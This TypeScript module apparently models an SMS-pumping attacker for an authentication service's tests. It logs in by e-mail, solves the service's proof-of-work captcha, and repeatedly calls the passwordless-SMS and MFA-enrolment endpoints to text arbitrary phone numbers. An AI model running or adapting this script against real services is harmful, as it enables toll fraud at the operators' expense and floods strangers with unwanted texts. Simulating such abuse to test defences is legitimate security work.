/**
 * Someone who earns by texts to numbers that they rent, or wants to annoy strangers: they make an account by e-mail and have as
 * many numbers texted as the service lets them, by every way that sends a code to a number. They read the documentation of the
 * routes, and pass a proof of work as any program can. Public libraries only and nothing of ours.
 */
import { pbkdf2Sync } from 'node:crypto';

/** The routes and services that the attacker can reach. */
export interface SmsPumpTarget {
  readonly url: string;
  readonly appId: string;
  /** A page of the app's. */
  readonly origin: string;
  send(request: Request): Promise<Response>;
  /** The code that came to an e-mail address of theirs. */
  readMail(address: string): string;
  /** Lets time pass. */
  wait(ms: number): void;
}

/** The ways to have a number texted that is not one's own. */
export const ways = {
  'a link, an update': { path: '/api/v1/passwordless_sms/init', body: {} },
  'an enrolment': { path: '/api/v1/mfa/passwordless_sms/init', body: { action: 'enroll' } },
} as const;
export type Way = keyof typeof ways;

/** The attacker's use of the app's captcha. */
export type Manner = 'without captchas' | 'with captchas' | 'with one captcha for all';

export interface SendResponse {
  readonly status: number;
  readonly code: string | undefined;
}

/** Makes an account, has so many numbers texted, and gives what was answered to each. */
export async function pump(
  target: SmsPumpTarget,
  { email, way, manner, numbers }: { email: string; way: Way; manner: Manner; numbers: readonly string[] },
): Promise<SendResponse[]> {
  const { post, passCaptcha } = createProgram(target);
  const token = await passCaptcha();
  await post('/api/v1/passwordless/init', { email, ...(token ? { token } : {}) });
  const code = target.readMail(email);
  const login = await post('/api/v1/passwordless/authenticate', { email, code });
  const bearer = String(login.json.token);
  const shared = manner === 'with one captcha for all' ? await passCaptcha() : null;
  const answers: SendResponse[] = [];
  for (const phoneNumber of numbers) {
    const passed = manner === 'with captchas' ? await passCaptcha() : shared;
    const { path, body } = ways[way];
    const sent = { ...body, phoneNumber, ...(passed ? { token: passed } : {}) };
    const { status, json } = await post(path, sent, bearer);
    answers.push({ status, code: json.code as string | undefined });
    target.wait(1_000);
  }
  return answers;
}

function createProgram({ appId, origin, send, url }: SmsPumpTarget) {
  async function post(path: string, body: object, bearer?: string) {
    const headers: Record<string, string> = {
      'content-type': 'application/json',
      'privy-app-id': appId,
      origin,
      ...(bearer === undefined ? {} : { authorization: `Bearer ${bearer}` }),
    };
    const response = await send(
      new Request(url + path, { method: 'POST', headers, body: JSON.stringify(body) }),
    );
    return { status: response.status, json: (await response.json()) as Record<string, unknown> };
  }

  /** A token of the service's own captcha; null where the app has none. */
  async function passCaptcha(): Promise<string | null> {
    const { status, json } = await post('/api/v1/captcha/challenge', { action: 'login' });
    if (status !== 200) return null;
    const { challenge, cost, prefix, range, signature } = json as Record<string, string & number>;
    const start = Buffer.from(String(prefix), 'base64url');
    for (let number = 0; number < Number(range); number += 1) {
      const key = pbkdf2Sync(String(challenge), String(number), Number(cost), 32, 'sha256');
      if (key.subarray(0, start.length).equals(start))
        return `${challenge}.${signature}.${key.toString('base64url')}`;
    }
    return null;
  }

  return { post, passCaptcha };
}
